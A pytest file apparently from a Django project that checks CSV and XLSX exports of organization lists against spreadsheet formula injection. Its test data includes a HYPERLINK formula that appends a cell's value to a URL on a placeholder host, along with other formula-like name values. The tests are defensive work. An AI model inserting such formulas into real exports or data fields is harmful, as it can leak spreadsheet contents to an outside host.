"""Exports are data, never formulas: a name a user typed cannot run in a colleague's spreadsheet."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from stims.core.exports import csv_safe, is_formula_like
from stims.orgs.models import Organization, OrganizationKind
from stims.testing import make_user, unit

pytestmark = pytest.mark.django_db

INJECTED = '=HYPERLINK("http://example.invalid/?"&A2,"Click")'
NAMES = [INJECTED, "+84 203 3888 999", "-1+1", "@SUM(A1:A9)", "\tTab", "\rReturn", "Công ty Đạp Thanh"]


@pytest.fixture
def organizations():
    ba_che = unit("Huyện Ba Chẽ", legacy=True)
    for name in NAMES:
        Organization.objects.create(name=name, kind=OrganizationKind.ENTERPRISE, admin_unit=ba_che)


@pytest.fixture
def officer_client(client):
    client.force_login(make_user("local_officer", admin_unit=unit("Huyện Ba Chẽ", legacy=True)))
    return client


def test_formula_like_text_is_recognised_and_prefixed_for_csv():
    assert all(is_formula_like(name) for name in NAMES[:-1])
    assert not is_formula_like("Công ty Đạp Thanh") and not is_formula_like(42)
    assert csv_safe(INJECTED) == "'" + INJECTED and csv_safe("Công ty") == "Công ty" and csv_safe(5) == 5


def test_the_xlsx_export_of_a_list_writes_every_name_as_text_exactly(officer_client, organizations):
    response = officer_client.get(reverse("orgs:organization_list"), {"_export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    # A carriage return may come back as a line feed (XML normalises line ends unless the writer
    # escapes it, which depends on the XML library installed): the one change a workbook may make.
    written = {name.replace("\r", "\n"): name for name in NAMES} | {name: name for name in NAMES}
    cells = {written[c.value]: c for row in sheet.iter_rows(min_row=2) for c in row if c.value in written}
    assert set(cells) == set(NAMES)
    for name, cell in cells.items():
        assert cell.data_type == "s", name  # never "f": openpyxl reads a formula back as data_type "f"
        assert cell.quotePrefix == is_formula_like(name), name


def test_the_csv_export_of_a_list_neutralises_formula_like_names(officer_client, organizations):
    response = officer_client.get(reverse("orgs:organization_list"), {"_export": "csv"})
    assert response.status_code == 200
    values = {value for row in csv.reader(io.StringIO(response.content.decode("utf-8"))) for value in row}
    for name in NAMES[:-1]:
        assert "'" + name in values and name not in values, name
    assert "Công ty Đạp Thanh" in values
